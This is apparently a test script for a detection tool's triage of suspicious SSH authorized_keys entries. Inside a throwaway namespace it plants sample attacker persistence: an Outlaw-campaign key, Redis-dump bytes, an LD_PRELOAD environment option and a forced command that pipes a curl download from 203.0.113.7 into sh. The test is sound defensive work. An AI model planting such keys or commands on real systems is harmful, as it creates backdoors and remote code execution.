#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# `minerwatch triage` on authorized_keys lines that stand out, with keys
# made by ssh-keygen in a private mount namespace (tmpfs over /root and
# /home, never the real ones): a key with Outlaw's "mdrfckr" comment, the
# bytes Redis CONFIG SET + SAVE writes around a key, environment= and
# from= options, a forced command that downloads and runs a script, and an
# ordinary key with none of that. Each finding carries the fingerprint
# ssh-keygen -l prints; the ordinary key is named only as the file's last
# key, in the "changed after install" finding.
. "$(dirname "$0")/lib.sh"

for tool in unshare jq ssh-keygen; do
	command -v "$tool" >/dev/null || skip "$tool is not installed"
done
[ -d /root ] && [ -d /home ] || skip "no /root or /home"

STAGE=$(mktemp -d /run/mw-triage-keys.XXXXXX)
# Removed however the test ends (finish and skip exit early).
trap 'rm -rf "$STAGE"; cleanup' EXIT
cp "$MW_BIN" "$STAGE/minerwatch" && cp -r "$MW_ROOT/rules" "$STAGE/rules" || fail "cannot stage in $STAGE"

unshare -m --propagation private bash -c '
S='"$STAGE"'
set -e
for m in /root /home; do mount -t tmpfs tmpfs "$m"; mountpoint -q "$m" || exit 99; done
mkdir -p -m 700 /root/.ssh
for k in outlaw:mdrfckr env:ops cmd:backup plain:alice@laptop; do
	ssh-keygen -q -t ed25519 -N "" -C "${k#*:}" -f "$S/${k%%:*}"
	ssh-keygen -lf "$S/${k%%:*}.pub" | cut -d" " -f2 >"$S/${k%%:*}.fp"
done
{
	cat "$S/outlaw.pub"
	printf "REDIS0009\372\tredis-ver\0056.0.16\372\n\n"
	echo "from=\"203.0.113.9\",environment=\"LD_PRELOAD=/dev/shm/x.so\" $(cat "$S/env.pub")"
	echo "command=\"curl -fsSL http://203.0.113.7/x.sh | sh\",no-pty $(cat "$S/cmd.pub")"
	cat "$S/plain.pub"
} >/root/.ssh/authorized_keys
touch -d "@$(( $(date +%s) - 60 ))" /root/.ssh/authorized_keys
set +e
"$S/minerwatch" triage --rules "$S/rules" --json --sample-ms 100 >"$S/out.json" 2>"$S/err.txt"
' 2>"$T/ns.err"
rc=$?
[ "$rc" -ne 99 ] || fail "private mounts not in place: scenario not run"
cp "$STAGE/out.json" "$OUT" 2>/dev/null
for k in outlaw env cmd plain; do eval "fp_$k=\$(cat \"\$STAGE/$k.fp\" 2>/dev/null)"; done
rm -rf "$STAGE"
expect_valid_json

keys='.file.path == "/root/.ssh/authorized_keys" and .rule.id == "MW-PERSIST-003"'
key_finding() {
	local line
	line=$(jq -c "select($keys and ($1))" "$OUT" | head -n 1)
	if [ -n "$line" ]; then
		ok "$2"
		printf '%s\n' "$line"
	else
		fail "no finding: $2 (jq: $1)"
	fi
}
[ -n "$fp_outlaw" ] || fail "ssh-keygen gave no fingerprint"
key_finding ".minerwatch.triage.key.fingerprint == \"$fp_outlaw\" and .event.severity >= 85 and (.rule.name | test(\"campaign\"))" \
	"the mdrfckr key, by its comment, with ssh-keygen's fingerprint" >/dev/null
line=$(key_finding '.minerwatch.triage.line_number == 2 and (.rule.name | test("no key"))' "the Redis dump bytes around the keys")
[ -n "$line" ] && expect "$line" '.minerwatch.triage.line | startswith("REDIS0009")' "the line, escaped, in the finding"
line=$(key_finding ".minerwatch.triage.key.fingerprint == \"$fp_env\" and (.rule.name | test(\"unusual options\"))" \
	"environment= and from= options")
[ -n "$line" ] && expect "$line" '.event.severity >= 70 and (.message | test("environment")) and (.message | test("pinned to an address"))' \
	"both options named, environment= weighs most"
line=$(key_finding ".minerwatch.triage.key.fingerprint == \"$fp_cmd\" and (.rule.name | test(\"forced command\"))" "a forced command")
[ -n "$line" ] && expect "$line" '.process.command_line == "curl -fsSL http://203.0.113.7/x.sh | sh" and (.minerwatch.triage.reasons | test("download piped into a shell")) and .event.severity >= 85' \
	"the command judged as any command (download piped into a shell)"
n=$(jq -c "select($keys and .minerwatch.triage.key.fingerprint == \"$fp_plain\" and .minerwatch.triage.keys == null)" "$OUT" | wc -l)
[ -n "$fp_plain" ] && [ "$n" -eq 0 ] && ok "the ordinary key: no finding of its own" || fail "the ordinary key was reported ($n)"
key_finding ".minerwatch.triage.keys == 4 and .minerwatch.triage.key.fingerprint == \"$fp_plain\"" \
	"changed after install: 4 keys, the last named by its fingerprint" >/dev/null
finish
